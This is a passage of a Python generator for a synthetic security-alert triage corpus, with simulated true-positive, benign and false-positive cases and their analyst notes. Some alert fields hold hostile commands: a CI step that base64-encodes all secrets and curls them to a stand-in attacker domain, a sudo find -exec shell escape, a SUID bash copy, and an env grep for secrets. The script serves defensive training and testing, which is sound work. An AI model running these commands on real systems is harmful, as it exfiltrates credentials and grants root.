            waf(ip, "IN", "POST", "/graphql", "", "BLOCK", "AWSManagedRulesSQLiRuleSet", "SQLi_BODY", "Mozilla/5.0 (X-Bug-Bounty: %s)" % handle, "api.example.com", status=403,
                matched=("SQL_INJECTION", "BODY", "SLEEP(5)")), ents={"ips": [ip]}, asset=("production", "medium", "web-team"))
    notes = pick([
        "Time-based SLEEP(5) payloads against /graphql from %s carry the program's identifying header (%s); api.example.com is in scope. WAF blocked them; any finding will come through the platform." % (ip, handle),
        "Bug bounty testing by %s from %s, in scope and rate-limited per the program rules. Nothing to action." % (handle, ip),
    ])
    return out("Bug bounty SQLi testing by %s" % handle, "informational", ["T1190"], notes, [])


@scenario("rb-sql-injection", "false_positive")
def sqli_fp_content(c):
    u = c.person()
    slugt = pick(["postgres-partitioning-lessons", "debugging-slow-joins", "our-migration-to-citus"])
    c.alert("waf", "SQL injection attempt blocked", "medium",
            waf(int_ip("10.20"), "GB", "POST", "/cms/articles/%s" % slugt, "", "BLOCK", "AWSManagedRulesSQLiRuleSet", "SQLi_BODY", pick(UA_BROWSER), "cms.example.com", status=403,
                matched=("SQL_INJECTION", "BODY", "SELECT * FROM")), ents={"users": [u.email]}, asset=("production", "low", "web-team"))
    notes = pick([
        "%s saving the engineering blog draft '%s', which contains SQL examples; WAF blocked the save. Authenticated staff session from the office. Excluded the CMS editor path for SSO-authenticated users." % (u.email, slugt),
        "Blog post body with SELECT examples from %s tripped SQLi_BODY. Not an attack." % u.sam,
    ])
    return out("CMS draft '%s' blocked by SQLi rule" % slugt, "informational", ["T1190"], notes, ["create_ticket"])


# ===================================== supply chain / CI =============================

@scenario("rb-malicious-package", "true_positive")
def pkg_typosquat_npm(c):
    host = c.lnx("build-agent", "prod")
    pkg = pick(["reqeusts", "colourama", "lodahs", "expres-validator", "eslint-config-exm-internal", "python3-dateutil"])
    ip = ext_ip()
    c.alert("falco", "Package install script made outbound connection and read credentials", "critical",
            falco("Build process read cloud credentials", "Critical", "postinstall script read ~/.aws/credentials and connected to %s" % ip,
                  {"proc.cmdline": "node ./scripts/postinstall.js" if "-" in pkg or pkg in ("lodahs",) else "python setup.py install",
                   "proc.pname": "npm" if "-" in pkg or pkg == "lodahs" else "pip", "fd.name": "/home/runner/.aws/credentials", "k8s.node.name": host, "package": pkg}),
            ents={"hosts": [host], "ips": [ip]}, asset=("production", "high", "devex"))
    notes = pick([
        "Typosquat '%s' added in a dependency bump PR; its install script read runner credentials and posted them to %s. Runner ephemeral but the deploy key it held was rotated, package pinned out via the registry proxy blocklist, PR reverted." % (pkg, ip),
        "Malicious dependency %s exfiltrated CI credentials during install on %s. Rotated everything the runner could see; blocked the package in Artifactory." % (pkg, host),
    ])
    return out("Typosquatted package %s stole CI credentials" % pkg, "critical", ["T1195.001", "T1552.001", "T1041"], notes,
               ["rotate_secret", "block_indicator", "quarantine_workload", "notify_owner"])


@scenario("rb-malicious-package", "true_positive")
def pkg_dependency_confusion(c):
    pkg = "@exm/%s" % pick(["auth-utils", "logger", "feature-flags"])
    c.alert("proxy", "Internal package name resolved from public registry", "high",
            proxy("build-agent", int_ip("10.10.7"), "https://registry.npm.example/%s/-/%s-99.0.%d.tgz" % (pkg, pkg.split("/")[1], rng.randint(1, 9)), category="Software Downloads"),
            ents={"urls": ["https://registry.npm.example/%s" % pkg]}, asset=("production", "high", "devex"))
    notes = pick([
        "%s v99 was published publicly by an unknown account and our .npmrc on older runners lacked the scope mapping, so the public one won. Install script beaconed hostname+env. Scope pinned to the internal registry, public name claimed, affected runners rebuilt." % pkg,
        "Dependency confusion on %s. Fixed scope config; rotated runner secrets." % pkg,
    ])
    return out("Dependency confusion for %s" % pkg, "high", ["T1195.001"], notes, ["rotate_secret", "block_indicator", "change_org_policy"])


@scenario("rb-malicious-package", "benign")
def pkg_postinstall_legit(c):
    host = c.lnx("build-agent", "prod")
    pkg = pick(["esbuild", "sharp", "puppeteer", "node-sass"])
    c.alert("falco", "Package install script made outbound connection", "medium",
            falco("Package install network activity", "Notice", "postinstall connected to github.com to fetch prebuilt binary",
                  {"proc.cmdline": "node install.js", "proc.pname": "npm", "package": pkg, "k8s.node.name": host}),
            ents={"hosts": [host]}, asset=("production", "low", "devex"))
    notes = pick([
        "%s's postinstall on %s downloads its platform binary from the project's release page; version pinned in package-lock and the checksum matched. Expected network activity." % (pkg, host),
        "Prebuilt binary fetch by %s during npm ci on %s. Known behaviour of that package." % (pkg, host),
    ])
    return out("%s postinstall binary fetch on %s" % (pkg, host), "informational", ["T1195.001"], notes, [])


@scenario("rb-malicious-package", "false_positive")
def pkg_scanner_fp(c):
    r = c.repo()
    c.alert("github-audit", "Dependency flagged as malicious by SCA", "medium",
            gh("dependabot_alerts.create", "dependabot", "", repo=r, extra={"package": "event-stream", "version": "4.0.1", "advisory": "GHSA-mh6f-8j2x-4483"}),
            ents={"repositories": [r]}, asset=("development", "low", "devex"))
    notes = pick([
        "Advisory covers event-stream 3.3.6 (flatmap-stream); %s uses 4.0.1, which is clean. SCA range matching bug. FP." % r,
        "event-stream 4.0.1 in %s is outside the advisory's affected range (3.3.6 only). Dismissed." % r,
    ])
    return out("SCA malicious-package alert on clean version in %s" % r, "informational", ["T1195.001"], notes, [])


@scenario("rb-ci-pipeline-tampering", "true_positive")
def ci_workflow_modified(c):
    u = c.person()
    r = c.repo()
    c.alert("github-audit", "Workflow file modified to exfiltrate secrets", "critical",
            gh("git.push", u.gh, ext_ip(), repo=r, extra={"ref": "refs/heads/%s" % pick(["fix-typo", "deps-update", "ci-cache"]),
                                                         "changed_files": [".github/workflows/ci.yml"],
                                                         "diff_excerpt": "+ run: echo \"${{ toJSON(secrets) }}\" | base64 | curl -d @- https://%s/c" % evil_domain()}),
            ents={"users": [u.gh], "repositories": [r]}, asset=("production", "high", "devex"))
    c.alert("github-audit", "Branch protection removed on default branch", "high",
            gh("protected_branch.destroy", u.gh, ext_ip(), repo=r, extra={"branch": "main"}), off=-4,
            ents={"users": [u.gh], "repositories": [r]}, asset=("production", "high", "devex"))
    notes = pick([
        "%s's token (stolen) removed branch protection on %s main and pushed a ci.yml step dumping toJSON(secrets) to an external host; the workflow ran once. Rotated every repo and org secret it could read, restored protection, revoked the token." % (u.gh, r),
        "Poisoned pipeline on %s: secrets exfil step in CI after protection removal. Secrets rotated, workflow reverted." % r,
    ])
    return out("CI workflow poisoned to dump secrets in %s" % r, "critical", ["T1677", "T1195.002", "T1552.001"], notes,
               ["rotate_secret", "revoke_token", "change_org_policy", "notify_owner"])


@scenario("rb-ci-pipeline-tampering", "true_positive")
def ci_rogue_runner(c):
    u = c.person()
    r = c.repo()
    runner = "DESKTOP-%s" % upper_alnum(7)
    c.alert("github-audit", "Self-hosted runner registered from unknown host", "high",
            gh("repo.register_self_hosted_runner", u.gh, ext_ip(), repo=r, extra={"runner_name": runner, "labels": ["self-hosted", "linux", "x64", "prod"]}),
            ents={"users": [u.gh], "repositories": [r]}, asset=("production", "high", "devex"))
    notes = pick([
        "Runner %s registered to %s with the 'prod' label by %s's compromised token, so deploy jobs would land on the attacker's machine. Removed the runner, revoked the token, restricted runner registration to org admins." % (runner, r, u.gh),
        "Rogue runner registration on %s with %s's token to capture prod deploy jobs. Removed before any job was scheduled on it; token revoked." % (r, u.gh),
    ])
    return out("Rogue self-hosted runner on %s" % r, "high", ["T1195.002", "T1677"], notes, ["delete_resource", "revoke_token", "change_org_policy"])


@scenario("rb-ci-pipeline-tampering", "benign")
def ci_workflow_change_reviewed(c):
    u = c.person()
    r = c.repo()
    c.alert("github-audit", "Workflow file modified", "low",
            gh("pull_request.merged", u.gh, int_ip(), repo=r, extra={"changed_files": [".github/workflows/release.yml"], "reviews": 2}),
            ents={"users": [u.gh], "repositories": [r]}, asset=("production", "low", "devex"))
    notes = pick([
        "Release workflow update (node 18 -> 20 action versions) by %s, reviewed by two code owners. Benign." % u.gh,
        "Reviewed workflow change in %s. Expected." % r,
    ])
    return out("Reviewed workflow change in %s" % r, "informational", ["T1677"], notes, [])


@scenario("rb-ci-pipeline-tampering", "false_positive")
def ci_runner_autoscale(c):
    runner = "arc-runner-%s" % alnum(5)
    ip = int_ip("10.10.7")
    c.alert("github-audit", "Self-hosted runner registered from unknown host", "medium",
            gh("org.register_self_hosted_runner", "actions-runner-controller[bot]", ip, extra={"runner_name": runner}),
            ents={"ips": [ip]}, asset=("production", "low", "platform-eng"))
    notes = pick([
        "%s registered by actions-runner-controller from %s, which is the new ARC node pool after platform-eng moved it to the %s cluster. Ephemeral runner, de-registers after one job. Updated the known-source range." % (runner, ip, pick(K8S_CLUSTERS)[0]),
        "Source %s is in the 10.10.7.0/24 ARC pool; the runner name pattern arc-runner-* and the [bot] actor are ours. Detection list was stale." % ip,
    ])
    return out("ARC runner %s registered from new node pool" % runner, "informational", ["T1677"], notes, ["create_ticket"])


# ===================================== Linux / container privilege ===================

@scenario("rb-sudo-privilege-escalation", "true_positive")
def sudo_find_escalation(c):
    host = c.lnx()
    user = pick(["www-data", "jenkins", "deploy", "tomcat"])
    c.alert("auditd", "sudo GTFOBins escalation", "high",
            auditd(host, "USER_CMD", "/usr/bin/sudo", "sudo", ["sudo", pick(["find", "vim", "less", "tar"]), ".", "-exec", "/bin/sh", "\\;", "-quit"], auid=str(rng.randint(100, 1100)), uid="0", key="sudo_exec"),
            ents={"hosts": [host], "users": [user]}, asset=("production", "high", c.team()))
    notes = pick([
        "%s had NOPASSWD sudo for find (added for a log cleanup script) and used -exec /bin/sh to get root on %s, right after the webshell access. sudoers fixed, host rebuilt." % (user, host),
        "Sudo misconfiguration abused for root on %s by %s. Contained." % (host, user),
    ])
    return out("sudo find escape to root on %s" % host, "high", ["T1548.003", "T1059.004"], notes, ["isolate_host", "collect_forensics"])


@scenario("rb-sudo-privilege-escalation", "true_positive")
def setuid_bash(c):
    host = c.lnx()
    c.alert("auditd", "setuid bit set on shell copy", "high",
            auditd(host, "SYSCALL", "/usr/bin/chmod", "chmod", ["chmod", "u+s", "/tmp/.bash"], auid=str(rng.randint(1000, 1100)), uid="0", key="perm_mod", syscall="fchmodat"),
            ents={"hosts": [host], "files": ["/tmp/.bash"]}, asset=("production", "high", c.team()))
    notes = pick([
        "SUID copy of bash at /tmp/.bash created on %s: a root backdoor for later. Removed, mounted /tmp nosuid, rebuilt host." % host,
        "SUID shell planted on %s. Malicious persistence. Contained." % host,
    ])
    return out("SUID shell planted on %s" % host, "high", ["T1548.001"], notes, ["isolate_host", "delete_resource", "collect_forensics"])


@scenario("rb-sudo-privilege-escalation", "benign")
def sudo_admin(c):
    host = c.lnx()
    u = c.person()
    c.alert("auditd", "Interactive sudo to root shell", "low",
            auditd(host, "USER_CMD", "/usr/bin/sudo", "sudo", ["sudo", "-i"], auid=str(rng.randint(1000, 1100)), uid="0", key="sudo_exec"),
            ents={"hosts": [host], "users": [u.sam]}, asset=("production", "low", "sre"))
    notes = pick([
        "On-call SRE %s took a root shell during %s (disk full on %s). Approved via the PAM break-glass flow. Benign." % (u.name, inc(), host),
        "sudo -i by SRE %s during an incident. Expected." % u.sam,
    ])
    return out("On-call root shell on %s" % host, "informational", ["T1548.003"], notes, [])


@scenario("rb-sudo-privilege-escalation", "false_positive")
def sudo_pkexec_fp(c):
    host = c.lnx(pick(["dev", "desk"]), "stg")
    c.alert("auditd", "pkexec execution", "medium",
            auditd(host, "EXECVE", "/usr/bin/pkexec", "pkexec", ["/usr/bin/pkexec", "/usr/lib/update-notifier/package-system-locked"], auid="1000", uid="0", key="priv_esc"),
            ents={"hosts": [host]}, asset=("development", "low", "devex"))
    notes = pick([
        "update-notifier's package-system-locked helper via pkexec on %s; polkit is on the patched version and there's no GCONV/env abuse in argv. FP." % host,
        "Routine pkexec call by update-notifier on desktop VM %s. Benign." % host,
    ])
    return out("update-notifier pkexec on %s" % host, "informational", ["T1548"], notes, [])


@scenario("rb-container-exec-shell", "true_positive")
def exec_prod_pod(c):
    cl, env, ns = c.k8s()
    pod = c.pod(ns + "-api")
    u = c.person()
    ip = ext_ip()
    c.alert("kubernetes-audit", "Interactive exec into production pod", "high",
            k8s("create", u.email, ["developers"], [ip], "/api/v1/namespaces/%s/pods/%s/exec?command=%%2Fbin%%2Fsh&stdin=true&tty=true" % (ns, pod), "pods", ns, name=pod, sub="exec"),
            ents={"users": [u.email], "hosts": [pod], "ips": [ip]}, asset=("production", "high", c.team()))
    c.alert("falco", "Terminal shell in container reading env secrets", "high",
            falco("Terminal shell in container", "Notice", "A shell was spawned in a container with an attached terminal (user=root)",
                  {"k8s.ns.name": ns, "k8s.pod.name": pod, "proc.cmdline": "sh -c env | grep -i -E 'key|secret|token|pass'", "k8s.node.name": "node-%s" % alnum(5)}),
            off=0.5, ents={"hosts": [pod]}, asset=("production", "high", c.team()))
    notes = pick([
        "kubectl exec into %s by %s from %s (not VPN, not the user's location), immediately grepping env for secrets. %s's kubeconfig with a long-lived token was on a stolen laptop. Revoked the token, rotated the namespace's secrets, and moved prod exec behind a JIT approval." % (pod, u.email, ip, u.name),
        "Unauthorised exec + secret harvesting in %s/%s. Contained; secrets rotated." % (ns, pod),
    ])
    return out("Exec into prod pod %s by %s" % (pod, u.sam), "high", ["T1609", "T1552.007"], notes,
               ["revoke_token", "rotate_secret", "quarantine_workload", "change_org_policy"])


@scenario("rb-container-exec-shell", "benign")
def exec_oncall(c):
    cl, env, ns = c.k8s()
    pod = c.pod(ns + "-worker")
    u = c.person()
    i = inc()
    c.alert("kubernetes-audit", "Interactive exec into production pod", "medium",
            k8s("create", u.email, ["sre-oncall"], [int_ip()], "/api/v1/namespaces/%s/pods/%s/exec?command=bash&stdin=true&tty=true" % (ns, pod), "pods", ns, name=pod, sub="exec"),
            ents={"users": [u.email], "hosts": [pod]}, asset=("production", "medium", "sre"))
    notes = pick([
        "%s (on call) exec'd into %s during %s to inspect a stuck queue consumer. JIT grant in the access tool, 1h expiry, from the VPN range." % (u.email, pod, i),
        "On-call debugging of %s in %s under %s; group sre-oncall, JIT approved by the incident commander." % (pod, cl, i),
    ])
    return out("On-call exec into %s (%s)" % (pod, i), "informational", ["T1609"], notes, [])


@scenario("rb-container-exec-shell", "false_positive")
def exec_probe(c):
    cl, env, ns = c.k8s()
    pod = c.pod(ns + "-api")
    c.alert("falco", "Terminal shell in container", "medium",
            falco("Terminal shell in container", "Notice", "A shell was spawned in a container (command=sh -c pg_isready)",
                  {"k8s.ns.name": ns, "k8s.pod.name": pod, "proc.cmdline": "sh -c pg_isready -h localhost", "proc.pname": "runc:[2:INIT]", "k8s.node.name": "node-%s" % alnum(5)}),
            ents={"hosts": [pod]}, asset=("production", "low", "sre"))
    notes = pick([
        "The 'shell' in %s is its exec liveness probe (sh -c pg_isready), parent runc init, no TTY, every 10s. The Falco rule on this version doesn't check tty. FP." % pod,
        "Probe execution in %s/%s, identical command every probe period. Not a human. Rule tuned to require a terminal." % (ns, pod),
    ])
    return out("Liveness probe in %s flagged as shell" % pod, "informational", ["T1609"], notes, [])


@scenario("rb-internal-scanner-benign", "benign")
def scanner_nessus(c):
    ip = int_ip("10.250")
    n = rng.randint(200, 2000)
    c.alert("suricata", "Internal host scanning many ports", "medium",
            suricata(ip, rng.randint(40000, 60000), int_ip("10.10"), pick([22, 445, 3389, 8080]), "ET SCAN Nessus User Agent", "Attempted Information Leak", sev=2,
                     extra={"distinct_dests_10m": n}), ents={"ips": [ip]}, asset=("corporate", "low", "secops"))
    notes = pick([
        "%s is the Tenable scanner in the 10.250 security VLAN; %d targets in 10 minutes is the weekly credentialed scan (Tue 01:00-05:00)." % (ip, n),
        "Scheduled vulnerability scan from %s. Scanner inventory match, schedule match." % ip,
    ])
    return out("Scheduled Tenable scan from %s" % ip, "informational", ["T1595.002", "T1046"], notes, [])


@scenario("rb-internal-scanner-benign", "benign")
def scanner_pentest(c):
    ip = int_ip("10.250")
    t = ticket()
    c.alert("zeek", "Internal port sweep from workstation", "high",
            dict(zeek_conn(ip, int_ip("10.10"), 445, 0, 0, 0.0, state="S0"), distinct_dests_5m=rng.randint(500, 4000), ports=[21, 22, 80, 443, 445, 1433, 3389]),
            ents={"ips": [ip]}, asset=("corporate", "low", "secops"))
    notes = pick([
        "%s is the external pentest firm's drop box; engagement %s runs %s and the rules of engagement list this address." % (ip, t, c.day()),
        "Authorised internal pentest sweep from %s (%s). Confirmed with the engagement lead by phone." % (ip, t),
    ])
    return out("Pentest sweep from %s (%s)" % (ip, t), "informational", ["T1046"], notes, [])


@scenario("rb-internal-scanner-benign", "true_positive")
def scanner_rogue(c):
    host = c.ws()
    u = c.person()
    ip = int_ip("10.20")
    c.alert("suricata", "Internal host scanning many ports", "high",
            suricata(ip, rng.randint(40000, 60000), int_ip("10.10"), 445, "ET SCAN Possible Nmap SYN scan", "Attempted Information Leak", sev=2,
                     extra={"distinct_dests_10m": rng.randint(300, 2000)}), ents={"ips": [ip], "hosts": [host]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "Looked like the scanner at first glance, but %s is %s's laptop %s, not the 10.250 scanner VLAN, and no engagement was running. nmap launched by a PowerShell implant. Isolated." % (ip, u.name, host),
        "Scan from a user subnet (%s) with no authorisation. Implant on %s. Contained." % (ip, host),
    ])
    return out("Unauthorised nmap scan from %s" % host, "high", ["T1046", "T1018"], notes, ["isolate_host", "collect_forensics"])


@scenario("rb-internal-scanner-benign", "false_positive")
def scanner_new_ip(c):
    ip = int_ip("10.250")
    c.alert("suricata", "Vulnerability scanner from unregistered IP", "medium",
            suricata(ip, rng.randint(40000, 60000), int_ip("10.10"), 443, "ET SCAN Qualys scanner activity", "Attempted Information Leak"),
            ents={"ips": [ip]}, asset=("corporate", "low", "secops"))
    notes = pick([
        "%s is the Qualys appliance the VM team racked this week; it isn't in the scanner inventory yet. Confirmed with them and added it." % ip,
        "New scanner appliance at %s in the security VLAN, scanning on the VM team's schedule. FP." % ip,
    ])
    return out("New Qualys appliance %s" % ip, "informational", ["T1595.002"], notes, ["create_ticket"])


# --------------------------------------------------------------------------------------
# Corpus assembly
# --------------------------------------------------------------------------------------
FAMILY_IDS = [
    "rb-lsass-credential-dumping", "rb-dcsync-replication", "rb-kerberoasting", "rb-pass-the-hash",
    "rb-password-spraying", "rb-ssh-brute-force", "rb-mfa-fatigue", "rb-oauth-consent-abuse",
    "rb-session-token-theft", "rb-impossible-travel", "rb-service-account-anomaly", "rb-leaked-cloud-access-key",
    "rb-leaked-pat", "rb-cicd-credential-minting", "rb-overpermissioned-integration", "rb-stale-token-reuse",
    "rb-secrets-in-repository", "rb-k8s-service-account-token-abuse", "rb-cloud-new-access-key",
    "rb-cloud-role-assumption-chain", "rb-cloud-iam-policy-change", "rb-cloud-logging-disabled",
    "rb-console-login-without-mfa", "rb-cloud-cryptomining", "rb-public-storage-bucket", "rb-snapshot-exfiltration",
    "rb-cloud-instance-unusual-region", "rb-k8s-privileged-container", "rb-phishing-credential-harvest",
    "rb-malicious-office-document", "rb-html-smuggling", "rb-bec-inbox-rules", "rb-encoded-powershell",
    "rb-linux-curl-pipe-shell", "rb-mshta-script-proxy", "rb-certutil-download", "rb-rundll32-regsvr32-proxy",
    "rb-new-windows-service", "rb-scheduled-task", "rb-registry-run-key", "rb-cron-persistence",
    "rb-systemd-persistence", "rb-ssh-authorized-keys", "rb-rdp-lateral-movement", "rb-psexec-smb-lateral",
    "rb-winrm-lateral", "rb-ssh-lateral-movement", "rb-c2-beaconing", "rb-dns-tunnelling", "rb-exfil-cloud-storage",
    "rb-large-outbound-transfer", "rb-shadow-copy-deletion", "rb-mass-file-encryption",
    "rb-ransomware-discovery-tooling", "rb-windows-log-clearing", "rb-edr-tampering", "rb-linux-log-tampering",
    "rb-departing-employee-exfil", "rb-saas-mass-download", "rb-webshell", "rb-public-app-exploitation",
    "rb-sql-injection", "rb-malicious-package", "rb-ci-pipeline-tampering", "rb-sudo-privilege-escalation",
    "rb-container-exec-shell", "rb-internal-scanner-benign",
]

CASES_PER_FAMILY = 7
# Families whose true positives are rare in practice get fewer TP slots; a handful of
# high-volume intrusion families get one more, which lands the corpus near 45% TP.
TP_SLOTS = {"rb-internal-scanner-benign": 1, "rb-sql-injection": 2, "rb-impossible-travel": 2}
TP_EXTRA = ["rb-lsass-credential-dumping", "rb-password-spraying", "rb-session-token-theft", "rb-leaked-cloud-access-key",
            "rb-phishing-credential-harvest", "rb-encoded-powershell", "rb-c2-beaconing", "rb-psexec-smb-lateral",
            "rb-bec-inbox-rules", "rb-cicd-credential-minting", "rb-k8s-service-account-token-abuse", "rb-mass-file-encryption",
            "rb-public-app-exploitation"]

RFC3339_Z = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$")
ALERT_KEYS = {"id", "source", "time", "rule", "entities", "asset", "fields"}
ENTITY_KEYS = {"users", "hosts", "ips", "service_accounts", "tokens", "cloud_accounts", "files", "urls", "repositories"}
CASE_ID = re.compile(r"^[a-z0-9][a-z0-9-]{2,63}$")


def random_time():
    span = (END - START).total_seconds()
    t = START + dt.timedelta(seconds=rng.random() * span)
    # Most alerts land in working hours; a third arrive overnight or at weekends.
    if chance(0.65):
        t = t.replace(hour=rng.randint(7, 19))
    return t.replace(microsecond=rng.randint(0, 999) * 1000)


def build_case(family, disp, fn):
    CURRENT.clear()
    c = Case(random_time())
    r = fn(c)
    assert 1 <= len(c.alerts) <= 3, (fn.__name__, len(c.alerts))
    first = min(dt.datetime.strptime(a["time"], "%Y-%m-%dT%H:%M:%SZ") for a in c.alerts).replace(tzinfo=dt.timezone.utc)
    # The case is opened a few minutes after its main alert (offset 0); precursor alerts
    # were attached during triage, later ones (offset > 0) correlated into the open case.
    opened = max(c.t0, first) + dt.timedelta(minutes=rng.randint(2, 35))
    return {"_opened": opened, "title": r["title"], "opened": iso(opened), "alerts": c.alerts, "disposition": disp,
            "severity": r["severity"], "techniques": r["techniques"], "notes": r["notes"],
            "actions_taken": r["actions"], "runbook": family, "_scenario": fn.__name__}


def plan():
    cases = []
    for fam in FAMILY_IDS:
        scen = SCEN.get(fam, [])
        tps = [s for s in scen if s[0] == "true_positive"]
        others = [s for s in scen if s[0] != "true_positive"]
        assert tps and others, "family %s needs TP and non-TP scenarios" % fam
        n_tp = TP_SLOTS.get(fam, 4 if fam in TP_EXTRA else 3)
        slots = [tps[i % len(tps)] for i in range(n_tp)] + [others[i % len(others)] for i in range(CASES_PER_FAMILY - n_tp)]
        for disp, fn in slots:
            cases.append(build_case(fam, disp, fn))
    return cases


def assign_ids(cases):
    cases.sort(key=lambda x: x["_opened"])
    counters = {}
    for c in cases:
        y = c["_opened"].year
        counters[y] = counters.get(y, rng.randint(40, 180)) + rng.randint(1, 6)
        c["id"] = "pc-%d-%04d" % (y, counters[y])


def load_active_attack(path):
    bundle = json.load(open(path))
    active, inactive = {}, set()
    for o in bundle.get("objects", []):
        if o.get("type") != "attack-pattern":
            continue
        for ref in o.get("external_references", []):
            if ref.get("source_name") == "mitre-attack" and ref.get("external_id"):
                if o.get("revoked") or o.get("x_mitre_deprecated"):
                    inactive.add(ref["external_id"])
                else:
                    active[ref["external_id"]] = o.get("name")
    return active, inactive


def validate(cases, active):
    seen = set()
    for c in cases:
        assert CASE_ID.match(c["id"]) and c["id"] not in seen, c["id"]
        seen.add(c["id"])
        assert RFC3339_Z.match(c["opened"]), c["opened"]
        assert c["disposition"] in DISPOSITIONS
        assert c["severity"] in SEVERITIES, c["severity"]
        assert c["techniques"], c["id"]
        assert set(c["actions_taken"]) <= CATALOG_ACTIONS, (c["id"], set(c["actions_taken"]) - CATALOG_ACTIONS)
        assert len(c["actions_taken"]) == len(set(c["actions_taken"]))
        assert 1 <= len(c["alerts"]) <= 3
        for a in c["alerts"]:
            assert set(a) <= ALERT_KEYS, set(a) - ALERT_KEYS
            assert a["id"] and a["source"] and a["rule"].get("name"), a
            assert RFC3339_Z.match(a["time"]), a["time"]
            assert a["rule"].get("severity", "low") in SEVERITIES
            assert set(a.get("entities", {})) <= ENTITY_KEYS
            assert set(a.get("asset", {})) <= {"environment", "criticality", "owner"}
        if active is not None:
            for t in c["techniques"]:
                assert t in active, "inactive or unknown ATT&CK ID %s in %s" % (t, c["_scenario"])


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", default=DEFAULT_OUT)
    ap.add_argument("--attack", default=DEFAULT_ATTACK, help="ATT&CK enterprise STIX bundle used to check technique IDs")
    args = ap.parse_args()

    missing = [f for f in FAMILY_IDS if f not in SCEN]
    extra = [f for f in SCEN if f not in FAMILY_IDS]
    assert not missing and not extra, (missing, extra)

    cases = plan()
    assign_ids(cases)

    active = None
    if os.path.exists(args.attack):
        active, _ = load_active_attack(args.attack)
    else:
        print("warning: %s not found; ATT&CK IDs not verified" % args.attack, file=sys.stderr)
    validate(cases, active)

    os.makedirs(os.path.dirname(os.path.abspath(args.out)), exist_ok=True)
    keys = ["id", "title", "opened", "alerts", "disposition", "severity", "techniques", "notes", "actions_taken", "runbook"]
    with open(args.out, "w", encoding="utf-8", newline="\n") as fh:
        for c in cases:
            fh.write(json.dumps({k: c[k] for k in keys}, ensure_ascii=False, separators=(", ", ": ")) + "\n")

    disp = collections.Counter(c["disposition"] for c in cases)
    techs = sorted({t for c in cases for t in c["techniques"]})
    fams = {c["runbook"] for c in cases}
    scen_n = sum(len(v) for v in SCEN.values())
    srcs = collections.Counter(a["source"] for c in cases for a in c["alerts"])
    print("wrote %s" % os.path.relpath(args.out))
    print("cases: %d" % len(cases))
    print("by disposition: " + ", ".join("%s=%d (%.1f%%)" % (d, disp[d], 100.0 * disp[d] / len(cases)) for d in DISPOSITIONS))
    print("distinct techniques: %d%s" % (len(techs), " (all active in ATT&CK bundle)" if active is not None else " (unverified)"))
    print("families covered: %d/%d" % (len(fams), len(FAMILY_IDS)))
    print("scenario templates: %d; alerts: %d; sources: %d" % (scen_n, sum(len(c["alerts"]) for c in cases), len(srcs)))


if __name__ == "__main__":
    main()
